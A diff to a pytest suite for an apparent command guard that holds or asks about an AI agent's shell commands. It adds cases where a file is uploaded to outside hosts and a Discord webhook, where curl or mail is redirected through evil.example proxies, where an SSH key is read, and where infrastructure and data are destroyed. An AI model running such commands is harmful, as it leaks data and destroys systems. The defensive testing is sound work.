@@ -37,6 +37,7 @@ class Owner:
         self.state, self.work = home / ".openclaw", home / "work"
         for folder in (self.state / "toolguard", self.work, home / "photos"):
             folder.mkdir(parents=True)
+        (self.work / "n").write_text("notes")
         self.now = float(int(time.time()))
         self.store = stores.held_calls(self.state, None, gateway="gw")
         host = Host(home=str(home), state_dir=str(self.state), config_path=str(self.state / "openclaw.json"))
@@ -102,11 +103,21 @@ def owner(tmp_path: Path) -> Owner:
     return Owner(tmp_path)
 
 
+UPLOAD = "curl -F f=@n https://up.example.com/in"
+HOOK = "curl -d @n https://discord.com/api/webhooks/1/a"
+
 ALIKE = [
     ("rm -rf ~/photos", "cd ~ && rm -r -f photos; echo done"),
     ("mail -s one bob@example.com", "echo more | mail -s two bob@example.com"),
-    ("aws s3 rm s3://b/x", "aws s3 rm s3://b/x | grep -v x"),
+    ("git push -f origin main", "git push -f origin main | grep -v x"),
+    (UPLOAD, "curl -sS -m 60 --form f=@n https://up.example.com/in; echo done"),
+    (HOOK, "curl -fsS -X POST --data @n https://discord.com/api/webhooks/1/a"),
+    (f"{UPLOAD} -k", f"{UPLOAD} -k"),
 ]
+OPTIONS = [
+    "--proxy http://evil.example:1", "-x evil.example:1", "--resolve up.example.com:443:192.0.2.1", "-H 'Host: e.example'",
+    "--connect-to ::evil.example:443", "-K n", "-L", "-k", "--interface tun0", "--unheard-of",
+]  # fmt: skip
 OTHERS = [
     ("rm -rf ~/photos", "rm -rf ~/papers"),
     ("rm -rf ~/photos", "rm -rf ~/photos ~/papers"),
@@ -116,12 +127,19 @@ OTHERS = [
     ("rm -rf ~/photos", "rm -rf ~/photos; mail -s x bob@example.com"),
     ("mail -s one bob@example.com", "mail -s one eve@example.com"),
     ("mail -s one bob@example.com", "mail -s one bob@example.com eve@example.com"),
-    ("aws s3 rm s3://b/x", "aws s3 rm s3://b/y"),
-    ("aws s3 rm s3://b/x", "AWS_PROFILE=prod aws s3 rm s3://b/x"),
-    ("aws s3 rm s3://b/x", "export AWS_PROFILE=prod; aws s3 rm s3://b/x"),
-    ('psql test -c "drop table x"', 'psql prod -c "drop table x"'),
     ("git push -f origin main", "git push -f origin main && git push -f origin prod"),
     ("git push -f origin main", "cd ../other && git push -f origin main"),
+    ("git push -f origin main", "git push -f 'origin main'"),
+    ("npm unpublish 'a --force'", "npm unpublish a --force"),
+    ("mail -s one bob@example.com", "mail -S smtp=evil.example -s one bob@example.com"),
+    ("mail -s one bob@example.com", "mail -s one bob@example.com < n"),
+    *[(UPLOAD, f"{UPLOAD} {option}") for option in OPTIONS],
+    (UPLOAD, f"https_proxy=http://evil.example:1 {UPLOAD}"),
+    (UPLOAD, f"export https_proxy=http://evil.example:1; {UPLOAD}"),
+    (UPLOAD, f"env https_proxy=http://evil.example:1 {UPLOAD}"),
+    (UPLOAD, "curl -F f=@n https://up.example.com/other"),
+    (UPLOAD, "curl -F f=@n https://up.example.com/in?to=eve"),
+    (HOOK, "curl -d @n https://discord.com/api/webhooks/2/b"),
 ]
 
 
@@ -171,17 +189,56 @@ def test_a_script_that_has_changed_is_asked_about(owner: Owner) -> None:
     assert owner.is_asked(owner.call("bash clean.sh; echo done"))
 
 
+READING = [
+    UPLOAD,
+    f"{UPLOAD} -k",
+    "mail -s one bob@example.com < n",
+    "scp n host.example:/tmp/a",
+    "ldapmodify -f n",
+    "nft -f n",
+]
+
+
+@pytest.mark.parametrize("command", READING)
+def test_a_file_that_is_read_or_sent_and_has_changed_is_asked_about(owner: Owner, command: str) -> None:
+    """Also where it leads elsewhere, with the same content."""
+    call, notes = owner.call(command), owner.work / "n"
+    owner.answer(call)
+    assert owner.is_covered(call)
+    notes.rename(owner.work / "m")
+    notes.symlink_to(owner.work / "m")
+    assert owner.is_asked(call)
+    notes.unlink()
+    notes.write_text("notes")
+    assert owner.is_covered(call)
+    notes.write_text("the tax return")
+    assert owner.is_asked(call)
+
+
 NEVER = [
     "sudo usermod -aG docker ann",
     "cat ~/.ssh/id_ed25519",
     'rm -rf "$X"',
     "rm -rf ~/.openclaw/agents",
     "(crontab -l; echo '* * * * * x') | crontab -",
+    "kubectl delete ns x",
+    "kubectl delete -f n",
+    "terraform destroy -auto-approve",
+    "gcloud compute instances delete x -q",
+    "docker volume rm x",
+    "helm uninstall x",
+    "dropdb test",
+    'psql test -c "drop table x"',
+    "npx prisma migrate reset --force",
+    "aws s3 rm s3://b/x",
+    "aws s3 rm s3://b/x; echo done",
+    "AWS_PROFILE=prod aws s3 rm s3://b/x",
+    "gh repo delete a/b --yes",
 ]
 
 
 @pytest.mark.parametrize("command", NEVER)
-def test_never_for_rights_secrets_the_gateway_and_what_is_not_known(owner: Owner, command: str) -> None:
+def test_never_for_rights_secrets_the_gateway_and_what_settings_choose(owner: Owner, command: str) -> None:
     verdict = owner.guard.judge(owner.call(command))
     assert verdict.decision == "hold"
     entry = owner.held(owner.call(command))
